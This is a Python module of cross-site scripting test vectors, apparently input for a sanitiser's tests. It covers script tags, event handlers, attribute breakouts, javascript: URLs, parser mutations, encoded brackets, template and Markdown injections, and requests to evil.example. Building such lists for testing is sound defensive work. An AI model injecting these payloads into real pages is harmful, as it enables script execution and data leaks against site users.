"""What is written to make a page run it: families that everyone publishes, and their variants.

Each is one line, as a stranger would put it in a file, and would run, or ask something of another
host, in a page that prints it as it is: ``test_vectors`` begins by that. Those that are for a
template, a script or Markdown run in the place that they are made for only.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from itertools import product

EVIL = "//evil.example/"
IMAGE = "<img src=x onerror=alert(1)>"


def scripts() -> Iterator[str]:
    """A script, however its name is written."""
    yield from (
        *("<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<ScRiPt >alert(1)</sCrIpT >"),
        *("<script/x>alert(1)</script>", "<script\t>alert(1)</script\t>"),
        *("<script type=module>alert(1)</script>", "<script>alert`1`</script>"),
        *("<script src=data:,alert(1)></script>", f"<script src={EVIL}a.js></script>"),
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<<script>alert(1)//<</script>",
        '<script x=">">alert(1)</script>',
        "<svg><script>alert&lpar;1&rpar;</script></svg>",
        "<svg><script href=data:,alert(1) /></svg>",
        "<script>alert(1)",
    )


ALONE = (
    *("img src=x onerror", "image src=x onerror", "svg onload", "body onload", "body onpageshow"),
    *("iframe onload", "object data=x onerror", "style onload", "script src=x onerror"),
    *("input autofocus onfocus", "select autofocus onfocus", "button autofocus onfocus"),
    *("textarea autofocus onfocus", "input type=image src=x onerror", "audio src=x onerror"),
    *("video src=x onerror", "details open ontoggle", "link rel=stylesheet href=x onerror"),
    *("x tabindex=1 autofocus onfocus", "p contenteditable autofocus onfocus"),
    *("embed src=x onload", "marquee onstart", "frameset onload", "video autoplay onloadstart"),
)
"""Elements whose handler nobody has to set off."""
TOUCHED = ("click", "mouseover", "pointerenter", "keydown", "copy", "wheel", "touchstart", "blur")
"""Events that a reader sets off."""
SPELT = (
    *("<{} =alert(1)>", '<{}="alert(1)">', "<{}='alert(1)'>", "<{}=&#97;lert(1)>"),
    *("<{}=alert&#x28;1)>", "<{}=\\u0061lert(1)>", "<{}=alert(1)//", "</><{}=alert(1)>"),
)
"""A handler, however it is written."""


def handlers() -> Iterator[str]:
    """An element that waits for something, or for nothing."""
    yield from (f"<{element}=alert(1)>" for element in ALONE)
    yield from (f"<p on{event}=alert(1) tabindex=1>x" for event in TOUCHED)
    yield from (spelt.format("img src=x onerror") for spelt in SPELT)
    yield from (
        *("<svg/onload=alert(1)>", "<IMG/SRC=x/ONERROR=alert(1)>", "<svg\x0conload=alert(1)>"),
        *("<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set onbegin=alert(1)>"),
        "<video><source onerror=alert(1) src=x></video>",
        "<audio controls><track default src=x onerror=alert(1)></audio>",
        "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=alert(1)>",
        "<button popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(1)>y",
    )


QUOTES = ('"', "'", "`", '">', "'>", '"/', "'/", '\\"', "x ")
ESCAPED_BY = ("onfocus=alert(1) autofocus tabindex=1 x=", "onmouseover=alert(1) x=", IMAGE)


def attributes() -> Iterator[str]:
    """A quote that would end the value of an attribute, then one of one's own."""
    yield from (f"{quote} {inside}" for quote, inside in product(QUOTES, ESCAPED_BY))


CLOSED = (
    *(
        "</title>",
        "</textarea>",
        "</style>",
        "</script>",
        "</noscript>",
        "</template>",
        "</select>",
    ),
    *("</xmp>", "</iframe>", "</noembed>", "</option>", "</svg>", "</math>", "</pre>", "</code>"),
    *("</button>", "</a>", "</li>", "</main>", "</body>", "</plaintext>", "-->", "--!>", "]]>"),
)


def elements() -> Iterator[str]:
    """The end of what a text could stand in, then an element of one's own."""
    yield from (f"{closed}{IMAGE}" for closed in CLOSED)


SCHEMES = (
    *("javascript:alert(1)", "JaVaScRiPt:alert(1)", "javascript://%0aalert(1)"),
    *("java\tscript:alert(1)", "\x01javascript:alert(1)", "javascript&colon;alert(1)"),
    *("&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "jav&#x0A;ascript:alert(1)"),
    *("jav&Tab;ascript:alert(1)", "javascript:%61lert(1)", "javascript:'<svg onload=alert(1)>'"),
    *("data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "\\\\evil.example/"),
    *("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", EVIL, "blob:null/x"),
)
CARRIERS = ('<a href="{}">x</a>', "[x]({})", "![x]({})", '<iframe src="{}"></iframe>')
RARER = (
    *('<form action="{}"><button>x</button></form>', '<button formaction="{}">x</button>'),
    *('<object data="{}"></object>', '<embed src="{}">', '<base href="{}">', '<area href="{}">'),
    *('<meta http-equiv=refresh content="0;url={}">', '<svg><a xlink:href="{}"><text>x</text>'),
    *('<math href="{}">x</math>', '<link rel=stylesheet href="{}">', '<img src="{}">'),
    *("<{}>", "[x](<{}>)", "[x]: {}", '[x](https://www.cnil.fr/ "{}")', '<img srcset="{}">'),
)


def addresses() -> Iterator[str]:
    """An address that is a program, and everything that leads to an address."""
    yield from (carrier.format(scheme) for carrier, scheme in product(CARRIERS, SCHEMES))
    yield from (carrier.format(SCHEMES[0]) for carrier in RARER)


def styles() -> Iterator[str]:
    """A style that asks for something, or that once was a program."""
    yield from (
        f"<style>@import'{EVIL}a.css'</style>",
        f"<p style=background:url({EVIL})>x",
        f"<style>*{{background:url({EVIL}a)}}</style>",
        "<p style=width:expression(alert(1))>x",
        "<p style=behavior:url(x.htc)>x",
        "<style>*{background:url(javascript:alert(1))}</style>",
        f"<link rel=stylesheet href={EVIL}a.css>",
    )


def mutations() -> Iterator[str]:
    """Harmless as one parser reads it, and not as another does."""
    yield from (
        f'<svg></p><style><a id="</style>{IMAGE}">',
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{IMAGE}">',
        f'<noscript><p title="</noscript>{IMAGE}">',
        f"<form><math><mtext></form><form><mglyph><style></math>{IMAGE}",
        f"<svg><foreignobject>{IMAGE}</foreignobject></svg>",
        f"<svg><desc><style>{IMAGE}</style></desc></svg>",
        f'<math><annotation-xml encoding=text/html><style><img title="</style>{IMAGE}">',
        f"<select><template>{IMAGE}</template></select>{IMAGE}",
        f"<template shadowrootmode=open>{IMAGE}</template>",
        f"<div><template shadowrootmode=open>{IMAGE}</template></div>",
        f"<!-->{IMAGE}-->",
        f"<!--!>{IMAGE}",
        f"<!-- --!>{IMAGE}",
        f"<![CDATA[>{IMAGE}]]>",
        f"<?x >{IMAGE}?>",
        f"<%<!--'%>{IMAGE}-->",
        f"<a<{IMAGE[1:]}",
        f"<//>{IMAGE}",
        f'<p id="-->{IMAGE}">x',
        f"<xmp><p title='</xmp>{IMAGE}'>",
        f"<plaintext>{IMAGE}",
        '<iframe srcdoc="<img src=x onerror=alert(1)>"></iframe>',
        "<iframe srcdoc='&lt;svg onload=alert(1)&gt;'></iframe>",
    )


BRACKETS = (
    *(("&lt;", "&gt;"), ("&LT;", "&GT;"), ("&lt", "&gt"), ("&#60;", "&#62;"), ("&#x3c;", "&#x3e;")),
    *(("&#0000060", "&#0000062"), ("&amp;lt;", "&amp;gt;"), ("&amp;#60;", "&amp;#62;")),
    *(("%3C", "%3E"), ("%253C", "%253E"), ("\\u003c", "\\u003e"), ("\\x3c", "\\x3e")),
    *(("\\74", "\\76"), ("\uff1c", "\uff1e"), ("\ufe64", "\ufe65"), ("+ADw-", "+AD4-")),
    *(("<\x00", ">"), ("<\u200b", ">"), ("\u2039", "\u203a"), ("\\<", "\\>"), ("&#x3C", "&#x3E")),
)


def encodings() -> Iterator[str]:
    """Signs that become brackets when they are read once too often."""
    yield from (f"{left}img src=x onerror=alert(1){right}" for left, right in BRACKETS)
    yield from (
        *("&quot; onfocus=alert(1) autofocus x=&quot;", "&#34; onfocus=alert(1) autofocus &#34;"),
        *("%22%20onfocus%3Dalert(1)%20autofocus", "\\u0022 onfocus=alert(1) autofocus \\u0022"),
    )


def templates() -> Iterator[str]:
    """What a language of templates would run."""
    yield from (
        *("{{constructor.constructor('alert(1)')()}}", "{{7*7}}", "{{''.__class__.__mro__}}"),
        *("{% for a in range(9) %}a{% endfor %}", "{{config}}", "${alert(1)}", "#{alert(1)}"),
        *("<%= alert(1) %>", "[[${alert(1)}]]", "{alert(1)|alert(1)}", "{{{alert(1)}}}"),
        *("<p v-html=alert(1)>x", "<p x-init=alert(1)>x", "<p ng-app ng-init=alert(1)>x"),
    )


def strings() -> Iterator[str]:
    """The end of a text in a script or in data."""
    yield from (
        *("';alert(1)//", '";alert(1)//', "`;alert(1)//", "\\';alert(1)//", '\\";alert(1)//'),
        *("'-alert(1)-'", '"+alert(1)+"', "*/alert(1)/*", "</script><script>alert(1)//"),
        *('"]);alert(1);([', "\u2028alert(1)", "\u2029alert(1)//", "\\u0027;alert(1)//"),
        *('"}];alert(1)//', "<!--<script>", "__proto__", "constructor", "hasOwnProperty"),
    )


def leaks() -> Iterator[str]:
    """What asks another host, or sends it what follows."""
    yield from (
        *(f"<img src='{EVIL}?", f"<a href={EVIL} target='", f"<img srcset={EVIL}a>"),
        *(f"<video poster={EVIL}a>", f"<body background={EVIL}a>", f"<table background={EVIL}a>"),
        *(f"<iframe src={EVIL}>", f"<link rel=prefetch href={EVIL}>", f"<audio src={EVIL}a>"),
        *(f"<input type=image src={EVIL}a>", f"<link rel=preload as=image href={EVIL}a>"),
        *(f"<form action={EVIL}><button>x", f"<meta http-equiv=refresh content='0;{EVIL}'>"),
        *(
            f"<svg><image href={EVIL}a>",
            f"<svg><use href={EVIL}a#b>",
            f"<link rel=icon href={EVIL}>",
        ),
    )


def names() -> Iterator[str]:
    """What takes the place of something that scripts ask for by its name."""
    yield from (
        *("<a id=filBox href=javascript:alert(1)>x", "<form id=chercher><input name=value>"),
        *("<img name=currentScript>", "<iframe name=trustedTypes></iframe>", "<a id=caches>x"),
        "<form name=body><input name=firstChild></form>",
    )


def markdown() -> Iterator[str]:
    """What some Markdown makes an element or an attribute of."""
    yield from (
        '[x](https://www.cnil.fr/" onmouseover="alert(1))',
        '![x](x" onerror="alert(1))',
        '![" onerror="alert(1)](x)',
        "x {: onclick=alert(1) }",
        "*x*{: onmouseover=alert(1) }",
        "{: onclick=alert(1) }",
        f"`</code>{IMAGE}`",
        f'``` "><{IMAGE[1:]}',
        f"[{IMAGE}](https://www.cnil.fr/)",
        f"[x][{IMAGE}]",
        f"[^1]: {IMAGE}",
        f"*[x]: {IMAGE}",
        f'!!! note "{IMAGE}"',
        f'=== "{IMAGE}"',
        f"[[{IMAGE}]]",
        '--8<-- "/etc/hostname"',
        f":{IMAGE}:",
        f"++{IMAGE}++",
        "/// html | img[src=x onerror='alert(1)']",
        f"/// details | {IMAGE}",
        f'[x](geste:"><{IMAGE[1:]})',
        f'[x](#"><{IMAGE[1:]})',
        f'[x](fin:"><{IMAGE[1:]})',
        f"| {IMAGE} | x |",
        f"- [x] {IMAGE}",
        f"# {IMAGE}",
        f"> {IMAGE}",
        '<https://www.cnil.fr/"onmouseover="alert(1)>',
    )


FAMILIES: Mapping[str, tuple[str, ...]] = {
    family.__name__: tuple(family())
    for family in (
        *(scripts, handlers, attributes, elements, addresses, styles, mutations, encodings),
        *(templates, strings, leaks, names, markdown),
    )
}
VECTORS: tuple[str, ...] = tuple(dict.fromkeys(v for family in FAMILIES.values() for v in family))
